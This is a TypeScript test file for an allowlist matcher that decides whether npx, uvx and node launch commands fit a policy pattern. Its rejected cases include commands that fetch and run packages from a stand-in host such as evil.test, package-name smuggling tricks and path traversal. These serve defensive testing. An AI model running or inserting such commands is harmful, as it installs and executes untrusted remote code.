import { fitsCommand } from './command-pattern.js';

const fits = (pattern: string, line: string): boolean => {
  const [command, ...args] = line.split(' ');
  return fitsCommand(pattern, { command: command!, args });
};

describe('a command of a policy', () => {
  it.each([
    ['npx -y @acme/*', 'npx -y @acme/weather'],
    ['npx -y @acme/*', 'npx -y @acme/weather@1.2.0 --units metric'],
    ['uvx acme-*', 'uvx acme-weather'],
    ['node /opt/*.js', 'node /opt/weather.js'],
    ['node /opt/*.js', 'node /opt/weather/index.js'],
    ['uvx weather', 'uvx weather'],
  ])('%s lets `%s` run', (pattern, line) => {
    expect(fits(pattern, line)).toBe(true);
  });

  it.each([
    ['npx -y @acme/*', 'npx -y @evil/weather'],
    ['npx -y @acme/*', 'npx -y evil'],
    ['npx -y @acme/*', 'npx -y @acme/x@npm:evil'],
    ['npx -y @acme/*', 'npx -y @acme/../evil'],
    ['npx -y @acme/*', 'npx -y @acme/x@evil/repository'],
    ['npx -y @acme/*', 'npx -y @acme/x@./evil'],
    ['npx -y acme-*', 'npx -y acme-evil/repository'],
    ['npx -y @acme/*', 'npx -y --package=evil @acme/weather'],
    ['npx -y @acme/*', 'npx @acme/weather'],
    ['npx -y @acme/weather', 'npx -y @acme/weather@npm:evil'],
    ['npx -y *', 'npx -y git+ssh://evil.test/x'],
    ['npx -y *', 'npx -y https://evil.test/x.tgz'],
    ['npx -y *', 'npx -y ../evil'],
    ['uvx acme-*', 'uvx acme-x@https://evil.test/x.whl'],
    ['uvx acme-*', 'uvx evil'],
    ['uvx acme-*', 'uvx --from evil acme-weather'],
    ['uvx weather', 'uvx weather-evil'],
    ['node /opt/*.js', 'node /opt/../tmp/evil.js'],
    ['node /opt/*.js', 'node --import /opt/x.js'],
  ])('%s does not let `%s` run', (pattern, line) => {
    expect(fits(pattern, line)).toBe(false);
  });

  it('does not take the words of a requirement for one of its own', () => {
    expect(fitsCommand('uvx acme-*', { command: 'uvx', args: ['acme-x @ https://evil.test/x.whl'] })).toBe(false);
    expect(fitsCommand('uvx acme-*', { command: 'uvx', args: ['acme-x', '--with', 'evil'] })).toBe(true);
  });
});
